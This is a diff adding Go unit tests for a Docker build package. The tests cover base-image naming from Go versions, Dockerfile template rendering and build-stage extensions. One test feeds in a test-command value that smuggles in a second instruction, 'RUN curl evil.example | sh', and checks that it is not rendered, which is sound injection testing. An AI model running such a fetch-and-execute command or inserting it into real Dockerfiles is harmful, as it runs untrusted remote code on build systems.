@@ -0,0 +1,72 @@
+package build
+
+import (
+	"bytes"
+	"strings"
+	"testing"
+)
+
+func TestApplyGoVersion(t *testing.T) {
+	cfg := &DockerGoBuilderConfig{GoVersion: "1.19rc2"}
+	if err := applyGoVersion(cfg); err != nil {
+		t.Fatal(err)
+	}
+	if cfg.BuildBaseImage != "golang:1.19rc2-"+DefaultGoImageVariant {
+		t.Errorf("unexpected build base image: %s", cfg.BuildBaseImage)
+	}
+
+	cfg = &DockerGoBuilderConfig{GoVersion: "1.18.4", GoImageVariant: "bullseye"}
+	if err := applyGoVersion(cfg); err != nil {
+		t.Fatal(err)
+	}
+	if cfg.BuildBaseImage != "golang:1.18.4-bullseye" {
+		t.Errorf("unexpected build base image: %s", cfg.BuildBaseImage)
+	}
+
+	// no version leaves the configuration untouched.
+	cfg = &DockerGoBuilderConfig{}
+	if err := applyGoVersion(cfg); err != nil {
+		t.Fatal(err)
+	}
+	if cfg.BuildBaseImage != "" {
+		t.Errorf("configuration should be untouched without a go version")
+	}
+
+	for _, cfg := range []*DockerGoBuilderConfig{
+		{GoVersion: "latest"},
+		{GoVersion: "1.18-alpine"},
+		{GoVersion: "1.18", BuildBaseImage: "golang:1.17-buster"},
+	} {
+		if err := applyGoVersion(cfg); err == nil {
+			t.Errorf("expected error with go version %q and build base image %q", cfg.GoVersion, cfg.BuildBaseImage)
+		}
+	}
+}
+
+func TestDockerfileTestCommand(t *testing.T) {
+	var buf bytes.Buffer
+	vars := &DockerfileTemplateVars{TestCommand: "go test ./... \nRUN curl evil.example | sh"}
+	if err := goDockerfileTmpl.Execute(&buf, vars); err != nil {
+		t.Fatal(err)
+	}
+
+	// the command is passed as a build arg, never rendered into the file.
+	if strings.Contains(buf.String(), "evil.example") {
+		t.Error("test command was rendered into the Dockerfile")
+	}
+	if !strings.Contains(buf.String(), "ARG TEST_COMMAND") {
+		t.Error("Dockerfile doesn't declare the TEST_COMMAND build arg")
+	}
+}
+
+func TestBuildStageExtensions(t *testing.T) {
+	ext := DockerfileExtensions{PreRuntimeCopy: "RUN true", PostRuntimeCopy: "RUN true"}
+	if got := buildStageExtensions(ext); len(got) != 0 {
+		t.Errorf("runtime extensions apply to the persistent cache, got %v", got)
+	}
+
+	ext.PreBuild, ext.PostModDownload = "RUN true", "RUN true"
+	if got := strings.Join(buildStageExtensions(ext), ","); got != "post_mod_download,pre_build" {
+		t.Errorf("unexpected build stage extensions: %s", got)
+	}
+}